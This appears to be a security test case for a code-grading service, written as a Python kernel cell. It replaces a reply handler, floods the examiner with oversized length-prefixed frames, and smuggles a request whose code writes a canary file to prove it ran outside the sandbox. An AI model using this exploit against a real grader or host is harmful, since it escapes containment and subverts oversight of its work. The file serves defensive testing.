# ---
# about: gives a reply larger than the examiner reads, so that the rest of it is taken for further checks
# stock: "not run: aims at our examiner"
# ---

# %% mean
import json
import struct

source = """
try:
    open("@CANARY@/open/escaped", "w").write("student code ran in the examiner")
except OSError:
    pass
"""
request = json.dumps({"source": source, "names": [], "folder": "/"}).encode()
frames = (struct.pack("!cI", b"R", len(request)) + request) * 5
size = 65 * 2**20 - 64  # of the last frame: spaces may follow JSON
frames += struct.pack("!cI", b"R", size) + request
blanks = b" " * 2**20
left = size - len(request)
flood = [frames, *[blanks] * (left // 2**20), b" " * (left % 2**20)]
app = get_ipython().kernel
plain = app.shell_handlers["workshop_ask"]
asked = []

async def workshop_ask(stream, ident, parent):
    asked.append(1)
    if len(asked) > 1:
        await plain(stream, ident, parent)
    else:
        app.session.send(stream, "workshop_reply", {}, parent, ident, buffers=flood)

app.shell_handlers["workshop_ask"] = workshop_ask
print("ATTACK RAN")
